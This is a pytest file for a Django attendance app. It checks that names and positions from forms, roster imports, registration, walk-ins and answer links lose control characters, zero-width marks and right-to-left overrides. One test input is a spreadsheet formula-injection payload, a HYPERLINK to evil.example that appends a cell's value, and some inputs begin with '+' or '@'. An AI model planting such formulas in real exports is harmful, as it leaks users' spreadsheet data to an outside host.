"""Names and other one-line fields never keep control or invisible characters, wherever they
enter: forms, the roster import, the paste box, public registration, a representative named
through an answer link, a walk-in at the venue."""

from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from attendance.services import register_walk_in
from core.text import OneLineField, one_line
from events import services as events_services
from events.models import Meeting, Registration
from members.models import Member
from members.newcomers import NewMember, create_members_for_invitation
from members.roster import read_roster
from tests.events.factories import InvitationFactory, MeetingFactory, SessionFactory
from tests.members.factories import AgencyFactory
from tests.members.rosters import HEADER_ID, SITI, xlsx_file

PLANTED = '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")'
KEPT = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        (PLANTED, KEPT),
        ("Siti\x00 Rahma\x7f", "Siti Rahma"),
        ("Siti\nRahma\r\n", "Siti Rahma"),
        ("  Budi\t\tSantoso  ", "Budi Santoso"),
        ("\u202eahmaR itiS", "ahmaR itiS"),
        ("Ni\u200b Luh\ufeff Putu", "Ni Luh Putu"),
        ("Dr. Muhammad Ja'far, M.Si.", "Dr. Muhammad Ja'far, M.Si."),
        ("Désirée Manurung", "Désirée Manurung"),
        ("\x1c\x1d", ""),
    ],
)
def test_a_one_line_value_keeps_only_what_can_be_seen(typed, kept):
    assert one_line(typed) == kept
    assert OneLineField(required=False).clean(typed) == kept


def test_a_one_line_form_field_of_only_invisible_characters_is_empty():
    with pytest.raises(ValidationError) as refused:
        OneLineField().clean("\x01\u200b\n")

    assert refused.value.code == "required"


@pytest.mark.django_db
def test_a_roster_row_is_cleaned_before_it_is_checked():
    # openpyxl will not write C0 controls into a workbook; DEL and invisible marks it will.
    planted = "\x7f\u200b" + KEPT
    roster = read_roster(
        file_name="peserta.xlsx",
        content=xlsx_file([HEADER_ID, [planted, *SITI[1:5], "\u202e+Pranata Humas", *SITI[6:]]]),
    )

    [row] = roster.rows
    assert row.full_name == KEPT
    assert row.position == "+Pranata Humas"


@pytest.mark.django_db
def test_a_person_from_the_paste_box_becomes_a_member_without_control_characters():
    agency = AgencyFactory()

    [member] = create_members_for_invitation(
        people=[
            NewMember(
                email="budi@bps.go.id",
                full_name="\x01Budi\nSantoso",
                agency_id=agency.pk,
                position="\u202eStatistisi",
            )
        ]
    )

    member.refresh_from_db()
    assert (member.full_name, member.position) == ("Budi Santoso", "Statistisi")


@pytest.mark.django_db
def test_a_registration_keeps_its_names_clean(mailoutbox):
    meeting = MeetingFactory(
        sessions=1,
        registration_open=True,
        registration_scope=Meeting.RegistrationScope.EMAIL_DOMAINS,
        registration_domains="kemenag.go.id",
        answer_deadline=timezone.now() + timedelta(days=7),
    )

    events_services.start_registration(
        meeting=meeting,
        full_name=PLANTED,
        email="siti@kemenag.go.id",
        agency_name="Kementerian\x00 Agama",
        work_unit="Biro\tHumas",
        position="\x07Pranata Humas",
    )

    registration = Registration.objects.get()
    assert registration.full_name == KEPT
    assert (registration.agency_name, registration.work_unit, registration.position) == (
        "Kementerian Agama",
        "Biro Humas",
        "Pranata Humas",
    )


@pytest.mark.django_db
def test_a_walk_in_keeps_its_names_clean():
    now = timezone.now()
    session = SessionFactory(
        meeting=MeetingFactory(sessions=0),
        starts_at=now - timedelta(hours=1),
        ends_at=now + timedelta(hours=1),
    )

    walk_in = register_walk_in(
        session=session,
        full_name=PLANTED,
        agency_name="\x1bBPS",
        email="yusuf@bps.go.id",
        position="Statistisi\r\nAhli",
    )

    walk_in.refresh_from_db()
    assert (walk_in.full_name, walk_in.agency_name, walk_in.position) == (
        KEPT,
        "BPS",
        "Statistisi Ahli",
    )


@pytest.mark.django_db
def test_a_representative_named_through_an_answer_link_keeps_a_clean_name(client):
    meeting = MeetingFactory(sessions=1, answer_deadline=timezone.now() + timedelta(days=7))
    invitation = InvitationFactory(meeting=meeting)
    secret = events_services.issue_answer_link(invitation=invitation)

    client.post(
        reverse("events:answer", args=[secret]),
        {
            "answer": "represented",
            "representative_name": PLANTED,
            "representative_email": "wakil@kemenag.go.id",
            "representative_position": "\x01@Kepala Biro",
        },
    )

    member = Member.objects.get(email="wakil@kemenag.go.id")
    assert (member.full_name, member.position) == (KEPT, "@Kepala Biro")
